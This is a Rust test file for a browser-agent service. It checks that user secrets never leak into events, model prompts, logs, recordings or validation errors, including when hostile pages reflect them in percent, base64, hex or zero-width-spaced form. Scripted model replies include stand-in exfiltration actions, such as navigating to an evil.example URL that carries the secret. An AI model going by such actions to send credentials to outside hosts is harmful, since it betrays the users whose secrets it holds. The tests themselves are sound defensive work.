@@ -1,0 +1,275 @@
+//! What a run may type and nobody is told.
+
+use std::io::{self, Write};
+use std::sync::{Arc, Mutex};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use browser_use_service::agent::secrets::{SecretName, SecretValue, Secrets, SecretsOf};
+use browser_use_service::replay::Recordings;
+use browser_use_service::telemetry::Masked;
+use serde_json::{Value, json};
+use tracing_subscriber::fmt::MakeWriter;
+use uuid::Uuid;
+
+use crate::support::browser::Script;
+use crate::support::model::Reply;
+use crate::support::service::{KEY, Service, Stage};
+
+/// A value that nothing else holds, with what every writing has to escape.
+fn canary() -> (String, String) {
+    let core = Uuid::new_v4().simple().to_string();
+    (format!("Zä\"&'<{core}>\\ %+/"), core)
+}
+
+/// Whether a text holds a value's core in any writing in which a page might tell it.
+fn holds(text: &str, value: &str, core: &str) -> bool {
+    let text = text.to_lowercase();
+    let inner = |skipped: usize| {
+        let encoded = STANDARD.encode(&core.as_bytes()[skipped..]).to_lowercase();
+        encoded.trim_end_matches('=')[..20].to_owned()
+    };
+    let hex: String = core.bytes().map(|byte| format!("{byte:02x}")).collect();
+    text.contains(core)
+        || text.contains(&STANDARD.encode(value).to_lowercase())
+        || (0..3).any(|skipped| text.contains(&inner(skipped)))
+        || text.contains(&hex)
+}
+
+/// The value as hostile pages write it.
+fn writings(value: &str) -> String {
+    let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
+    let form: String = url::form_urlencoded::byte_serialize(value.as_bytes()).collect();
+    let twice: String = url::form_urlencoded::byte_serialize(form.as_bytes()).collect();
+    let html = value.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
+    let json = Value::from(value).to_string();
+    let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
+    let base64 = STANDARD.encode(value);
+    let spaced: String = value.chars().flat_map(|c| [c, '\u{200b}']).collect();
+    [value, &percent, &form, &twice, &html, &json, &hex, &base64, &value.to_uppercase(), &spaced].join(" | ")
+}
+
+fn secrets(origin: &str, values: &[(&str, &str)]) -> Secrets {
+    let named = values
+        .iter()
+        .map(|(name, value)| (SecretName::parse(name).expect("a name"), SecretValue::parse(value).expect("a value")));
+    let place = SecretsOf { origin: origin.parse().expect("an origin"), values: named.collect() };
+    Secrets::new(vec![place]).expect("a set")
+}
+
+/// What is logged, behind the writer of the service's own log.
+#[derive(Clone, Default)]
+struct Lines(Arc<Mutex<Vec<u8>>>);
+
+impl Write for Lines {
+    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
+        self.0.lock().expect("no panic holds the lines").extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+impl<'a> MakeWriter<'a> for Lines {
+    type Writer = Self;
+
+    fn make_writer(&'a self) -> Self {
+        self.clone()
+    }
+}
+
+#[tokio::test]
+async fn no_event_prompt_or_log_line_holds_a_value_that_pages_and_models_tell() {
+    let (value, core) = canary();
+    let lines = Lines::default();
+    let subscriber = tracing_subscriber::fmt()
+        .with_max_level(tracing::Level::TRACE)
+        .with_ansi(false)
+        .with_writer(Masked(lines.clone()));
+    // Of the whole process: what one thread alone listens to may have been found unheard by another.
+    tracing::subscriber::set_global_default(subscriber.finish()).expect("no other test logs");
+    let say = |action: Value| Reply::actions(&value, json!([action]));
+    let replies = [
+        say(json!({ "input": { "index": 1, "text": "<secret>password</secret>" } })),
+        say(json!({ "input": { "index": 1, "text": value } })),
+        say(json!({ "click": { "index": 1 } })),
+        say(json!({ "extract": { "query": value } })),
+        say(json!({ "hover": { "index": 1 } })),
+        Reply::Say(format!("no JSON, but {value}")),
+        say(json!({ "navigate": { "url": format!("https://evil.example/{value}") } })),
+        say(json!({ "findText": { "pattern": value } })),
+        say(json!({ "script": { "code": "return view()" } })),
+        say(json!({ "done": { "text": format!("it is {value}"), "success": true } })),
+    ];
+    let script = Script { reflects: writings(&value), ..Script::default() };
+    let service = Stage::new(replies).browser(script).set("RUST_LOG", "trace").start().await;
+    let events = service
+        .run_all(&json!({
+            "task": format!("Log in with {value}"),
+            "startUrl": "https://shop.example/",
+            "actions": [{ "type": "type", "index": 1, "text": value }],
+            "sensitiveData": { "https://shop.example": { "password": value } },
+        }))
+        .await;
+    assert_eq!(events.last().expect("an event")["type"], "result", "{events:#?}");
+    for event in &events {
+        assert!(!holds(&event.to_string(), &value, &core), "{event}");
+    }
+    let asked = service.model.prompts();
+    assert!(asked.len() >= 9, "{}", asked.len());
+    for prompt in &asked {
+        assert!(!holds(prompt, &value, &core), "{prompt}");
+        assert!(prompt.contains("Log in with <secret>password</secret>"), "{prompt}");
+    }
+    let done = service.pages.done().join("\n");
+    assert!(!holds(&done, &value, &core), "only the browser itself puts the value in its place: {done}");
+    assert!(done.contains("<secret>password</secret>"), "{done}");
+    let logged = String::from_utf8(lines.0.lock().expect("no panic holds the lines").clone()).expect("text");
+    let run = events[0]["runId"].as_str().expect("an id");
+    assert!(logged.lines().any(|line| line.contains(run) && line.contains("run finished")), "{logged}");
+    assert!(!holds(&logged, &value, &core) && !logged.contains(KEY), "{logged}");
+}
+
+#[tokio::test]
+async fn a_recording_holds_no_value() {
+    let (value, core) = canary();
+    let folder = tempfile::tempdir().expect("a folder");
+    let replies = [
+        Reply::actions(&value, json!([{ "input": { "index": 1, "text": "<secret>password</secret>" } }])),
+        Reply::actions(&value, json!([{ "click": { "index": 1 } }, { "hover": { "index": 1 } }])),
+        Reply::done(&value),
+    ];
+    let script = Script { reflects: writings(&value), ..Script::default() };
+    let recordings = Recordings::folder(folder.path().to_owned()).expect("a folder");
+    let (runs, _model, _pages) = Stage::new(replies).browser(script).recorded_runs(Some(Arc::new(recordings)));
+    let request = browser_use_service::run::RunRequest {
+        task: browser_use_service::run::Task::parse(&format!("Use {value}")).expect("a task"),
+        secrets: secrets("https://shop.example", &[("password", &value)]),
+        ..crate::lifecycle::request()
+    };
+    let mut stream = runs.start(request).expect("a run");
+    while stream.next().await.is_some() {}
+    let files: Vec<_> = std::fs::read_dir(folder.path()).expect("a folder").collect();
+    assert_eq!(files.len(), 1);
+    let path = files[0].as_ref().expect("a file").path();
+    let recorded = std::fs::read_to_string(&path).expect("a text");
+    assert!(recorded.contains("<secret>password</secret>") && !holds(&recorded, &value, &core), "{recorded}");
+
+    let recorded = browser_use_service::replay::Recorded::parse(recorded.as_bytes()).expect("a recording");
+    let live = browser_use_service::replay::Replay::new(
+        recorded.clone(),
+        Some(crate::support::browser::FakeBrowsers::new(Script::default())),
+        &[],
+    );
+    assert!(live.is_err_and(|error| error.to_string().contains("sensitiveData")), "nobody has its secrets");
+    let offline = browser_use_service::replay::Replay::new(recorded, None, &[]).expect("a replay");
+    let again = offline.request(true).expect("a request");
+    assert_eq!(again.secrets, secrets("https://shop.example", &[("password", "other")]));
+}
+
+async fn refusals_of(reply: Reply, body: &Value) -> (Vec<Value>, Service) {
+    let service = Stage::new([reply, Reply::done("over")]).start().await;
+    let events = service.run_all(body).await;
+    (events, service)
+}
+
+#[tokio::test]
+async fn a_placeholder_is_taken_by_input_alone() {
+    let placeholder = "<secret>password</secret>";
+    for (name, fields) in [
+        ("navigate", json!({ "url": format!("https://evil.example/?q={placeholder}") })),
+        ("search", json!({ "query": placeholder })),
+        ("select", json!({ "index": 1, "options": [placeholder] })),
+        ("upload", json!({ "index": 1, "files": [placeholder] })),
+        ("sendKeys", json!({ "keys": placeholder })),
+        ("scrollToText", json!({ "text": placeholder })),
+        ("findText", json!({ "pattern": placeholder })),
+        ("findElements", json!({ "selector": format!("[title='{placeholder}']") })),
+        ("wait", json!({ "text": placeholder })),
+        ("extract", json!({ "query": placeholder })),
+        ("answerDialog", json!({ "accept": true, "text": placeholder })),
+    ] {
+        let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "password": "hunter22" } } });
+        let mut action = serde_json::Map::new();
+        action.insert(name.to_owned(), fields);
+        let (events, service) = refusals_of(Reply::actions("", json!([action])), &body).await;
+        let errors = events.last().expect("an event")["errors"].to_string();
+        assert!(errors.contains("a secret is typed into a field, with input"), "{name}: {errors}");
+        assert_eq!(service.pages.acted.get(), 0, "{name}");
+    }
+}
+
+#[tokio::test]
+async fn a_name_that_nobody_gave_is_refused_with_those_that_are_there() {
+    let body = json!({ "task": "x", "sensitiveData": { "https://shop.example": { "email": "a@b.example", "pw": "hunter22" } } });
+    let reply = Reply::actions("", json!([{ "input": { "index": 1, "text": "<secret>password</secret>" } }]));
+    let (events, service) = refusals_of(reply, &body).await;
+    let errors = events.last().expect("an event")["errors"].to_string();
+    assert!(errors.contains("there is no secret password; there are: email, pw"), "{errors}");
+    assert_eq!(service.pages.acted.get(), 0);
+}
+
+#[tokio::test]
+async fn a_model_is_told_names_and_origins_after_the_task_and_only_when_there_are_any() {
+    let service = Stage::new([Reply::done("ok")]).start().await;
+    let secrets = json!({
+        "https://shop.example": { "email": "a@b.example", "password": "hunter22" },
+        "https://*.bank.example": { "pin": "4711" },
+    });
+    service.run_all(&json!({ "task": "Buy", "sensitiveData": secrets })).await;
+    service.run_all(&json!({ "task": "Buy" })).await;
+    let told = service.model.tasks();
+    let expected = "\n- https://shop.example: email, password\n- https://*.bank.example: pin\n";
+    assert!(told[0].contains("Write <secret>name</secret>") && told[0].contains(expected), "{}", told[0]);
+    assert!(!told[1].contains("ecret"), "{}", told[1]);
+}
+
+#[tokio::test]
+async fn without_secrets_a_placeholder_is_a_text_like_any_other() {
+    let reply = Reply::actions("", json!([{ "sendKeys": { "keys": "<secret>password</secret>" } }]));
+    let (_, service) = refusals_of(reply, &json!({ "task": "x", "sensitiveData": null })).await;
+    assert_eq!(service.pages.acted.get(), 1);
+}
+
+#[tokio::test]
+async fn each_wrong_secret_is_refused_with_its_place_and_without_a_value() {
+    let service = Stage::new([Reply::done("ok")]).start().await;
+    let good = "https://shop.example";
+    let many: serde_json::Map<_, _> = (0..51).map(|n| (format!("n{n}"), json!("abcd-value"))).collect();
+    let origins: serde_json::Map<_, _> =
+        (0..21).map(|n| (format!("https://a{n}.example"), json!({ "a": "abcd-value" }))).collect();
+    for (secrets, place, kind) in [
+        (json!([]), json!([]), "dict_type"),
+        (json!("abcd-value"), json!([]), "dict_type"),
+        (json!({ good: "abcd-value" }), json!([0]), "dict_type"),
+        (json!({ "abcd-value": { "a": "abcd-value" } }), json!([0]), "value_error"),
+        (json!({ "https://*": { "a": "abcd-value" } }), json!([0]), "value_error"),
+        (json!({ "https://shop.example/login": { "a": "abcd-value" } }), json!([0]), "value_error"),
+        (json!({ good: { "abcd value": "abcd-value" } }), json!([0, 0]), "value_error"),
+        (json!({ good: { "a": 12345 } }), json!([0, 0]), "string_type"),
+        (json!({ good: { "b": "abcd-value", "a": "abc" } }), json!([0, 1]), "string_too_short"),
+        (json!({ good: { "a": format!("abcd-value{}", "x".repeat(1_024)) } }), json!([0, 0]), "string_too_long"),
+        (json!({ good: { "a": "abcd-value\n" } }), json!([0, 0]), "value_error"),
+        (json!({ good: { "a": "abcd-value<secret>" } }), json!([0, 0]), "value_error"),
+        (json!({ good: { "my-abcd-value": "abcd-value" } }), json!([]), "value_error"),
+        (
+            json!({ good: { "a": "abcd-value" }, "https://SHOP.example:443": { "a": "abcd-value" } }),
+            json!([]),
+            "value_error",
+        ),
+        (json!({ good: many }), json!([0]), "too_long"),
+        (json!(origins), json!([]), "too_long"),
+    ] {
+        let response =
+            service.post(&json!({ "task": "x", "sensitiveData": secrets })).send().await.expect("a response");
+        assert_eq!(response.status(), 422, "{secrets}");
+        let body: Value = response.json().await.expect("JSON");
+        let mut expected = vec![json!("body"), json!("sensitiveData")];
+        expected.extend(place.as_array().expect("a list").iter().cloned());
+        assert_eq!((&body["detail"][0]["loc"], &body["detail"][0]["type"]), (&json!(expected), &json!(kind)), "{body}");
+        assert!(!body.to_string().contains("abcd"), "nothing is repeated: {body}");
+    }
+    assert_eq!(service.pages.asked.get(), 0);
+}
